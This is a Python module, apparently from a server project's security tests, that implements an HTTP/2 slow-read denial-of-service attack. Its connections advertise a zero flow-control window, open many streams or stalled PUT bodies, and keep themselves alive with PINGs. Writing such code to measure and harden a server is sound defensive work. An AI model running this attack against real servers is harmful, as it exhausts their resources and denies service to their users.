"""HTTP/2 clients that do not read: issue 26's slow-read attack. Each connection advertises a
stream flow-control window of 0, opens many GET streams of a large object, answers the
server's PINGs and never reads a byte of data. Run as a script for the figures in
docs/SECURITY.md, or imported by the tests."""

import select
import ssl
import threading
import time
import urllib.parse

import h2.events
import h2.exceptions
import h2.settings

from h2client import connect


class StalledConnection:
    """One TLS HTTP/2 connection with `streams` GETs of `url` (a presigned URL), window 0."""

    def __init__(self, url: str, ca: str, streams: int, method: str = "GET", body_stall: bool = False,
                 source: str = "127.0.0.2"):
        u = urllib.parse.urlsplit(url)
        # From another loopback address than the test's own clients: another client.
        self.sock, self.conn = connect(url, ca, {
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0,
            h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1000}, source=source, timeout=30)
        self.opened = 0
        self.reset = 0
        self.closed = False
        path = u.path + ("?" + u.query if u.query else "")
        for _ in range(streams):
            sid = self.conn.get_next_available_stream_id()
            headers = [(":method", method), (":scheme", "https"), (":authority", u.netloc), (":path", path)]
            if body_stall:
                # A PUT that promises a body and never sends it.
                headers.append(("content-length", str(1 << 20)))
            try:
                self.conn.send_headers(sid, headers, end_stream=not body_stall)
            except h2.exceptions.TooManyStreamsError:
                break
            self.opened += 1
        self.sock.sendall(self.conn.data_to_send())

    def pump(self) -> None:
        """Reads what arrived (PINGs are answered by h2 itself), never granting window."""
        if self.closed:
            return
        try:
            data = self.sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        for ev in self.conn.receive_data(data):
            if isinstance(ev, (h2.events.StreamReset,)):
                self.reset += 1
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.closed = True
        out = self.conn.data_to_send()
        if out:
            try:
                self.sock.sendall(out)
            except OSError:
                self.closed = True

    def ping(self) -> None:
        if not self.closed:
            try:
                self.conn.ping(b"12345678")
                self.sock.sendall(self.conn.data_to_send())
            except OSError:
                self.closed = True

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


class Attack:
    """`connections` stalled connections, pumped (and pinged) by a thread until stopped."""

    def __init__(self, url: str, ca: str, connections: int, streams: int, **kw):
        self.conns = []
        for _ in range(connections):
            try:
                self.conns.append(StalledConnection(url, ca, streams, **kw))
            except OSError:
                break
        for c in self.conns:
            c.sock.setblocking(False)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        last_ping = time.monotonic()
        while not self.stop.is_set():
            live = [c for c in self.conns if not c.closed]
            if not live:
                time.sleep(0.1)
                continue
            ready, _, _ = select.select([c.sock for c in live], [], [], 0.5)
            for c in live:
                if c.sock in ready:
                    c.pump()
            if time.monotonic() - last_ping > 5:
                for c in live:
                    c.ping()
                last_ping = time.monotonic()

    @property
    def streams(self) -> int:
        return sum(c.opened for c in self.conns)

    @property
    def open_connections(self) -> int:
        return sum(not c.closed for c in self.conns)

    def close(self):
        self.stop.set()
        self.thread.join(timeout=10)
        for c in self.conns:
            c.close()
